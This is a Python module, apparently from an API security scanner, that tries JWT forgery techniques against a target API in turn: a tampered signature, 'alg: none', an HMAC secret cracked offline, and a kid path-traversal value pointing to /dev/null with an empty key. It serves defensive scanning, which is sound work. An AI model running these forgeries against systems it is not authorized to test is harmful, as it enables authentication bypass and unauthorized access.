"""A forging technique that works: the first way the scan signs a token that the API accepts.

Each technique signs any claims the way one forgery check does (``jwt_forgery``,
``jwt_key_injection``): a wrong signature, ``alg: none``, the HMAC secret cracked offline, an
empty key named by ``kid``. A technique counts only once the token it signs with the real
token's own claims was accepted where the real one is (``accepted``), so what a chain then
shows with other claims rests on a forging the API was seen to accept. The unchanged-claims
tokens of the first two are the very tokens ``jwt_forgery`` sends (one request each, shared).
"""

from __future__ import annotations

import asyncio
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from middlebrick.checks.authentication._jwt import (
    Carried,
    crack,
    hs256_signed,
    mask,
    resigned,
    tampered,
    unsigned,
    with_claims,
)
from middlebrick.checks.authentication._jwt_targets import Target, accepted, forge
from middlebrick.checks.context import CheckContext
from middlebrick.http.exchange import Exchange
from middlebrick.tokens import Jwt

Signer = Callable[[dict[str, Any]], str]
"""Claims -> a token the scan signed."""

_KID = "../../../../../../../../dev/null"  # as jwt_key_injection sends it
MOST_TRIES = 5
"""Requests ``working_forger`` sends at most: a wrong signature, two alg-none spellings, the
cracked secret, the kid path."""


@dataclass(frozen=True)
class Forger:
    """A technique the API fell for: how it signs, and the accepted same-claims probe."""

    technique: str  # the forgery finding's id slug, e.g. "jwt-alg-none"
    how: str  # words for a detail sentence: "with `alg: none` and no signature"
    sign: Signer
    probe: Exchange


async def working_forger(ctx: CheckContext, target: Target, carried: Carried) -> Forger | None:
    """The first technique whose token with ``carried``'s own claims ``target`` accepts."""
    jwt = carried.jwt
    for technique, how, sign in _tries(jwt):
        probe = await forge(ctx, target, carried, sign(dict(jwt.claims)))
        if accepted(target, probe) is not None:
            return Forger(technique, how, sign, probe)
    secret = await asyncio.to_thread(crack, jwt)  # only now: a few seconds of one core
    later: list[tuple[str, str, Signer]] = []
    if secret is not None:
        later.append(
            (
                "jwt-weak-secret",
                f"signed with the secret {mask(secret)!r} cracked offline",
                lambda claims: resigned(jwt, claims, secret),
            )
        )
    later.append(
        (
            "jwt-kid-injection",
            f"signed with an empty HMAC key and `kid: {_KID}`",
            lambda claims: hs256_signed(with_claims(jwt, claims), {"kid": _KID}, b""),
        )
    )
    for technique, how, sign in later:
        probe = await forge(ctx, target, carried, sign(dict(jwt.claims)))
        if accepted(target, probe) is not None:
            return Forger(technique, how, sign, probe)
    return None


def _tries(jwt: Jwt) -> list[tuple[str, str, Signer]]:
    """The techniques that need no work: a wrong signature, then ``alg: none``."""
    tries: list[tuple[str, str, Signer]] = []
    if jwt.alg.lower() != "none" and jwt.signature:
        tries.append(
            (
                "jwt-tampered-signature",
                "with a wrong signature (signatures are not verified)",
                lambda claims: tampered(with_claims(jwt, claims)),
            )
        )
    for alg in ("none", "None"):
        tries.append(
            (
                "jwt-alg-none",
                f"with `alg: {alg}` and no signature",
                lambda claims, alg=alg: unsigned(with_claims(jwt, claims), alg),  # type: ignore[misc]
            )
        )
    return tries
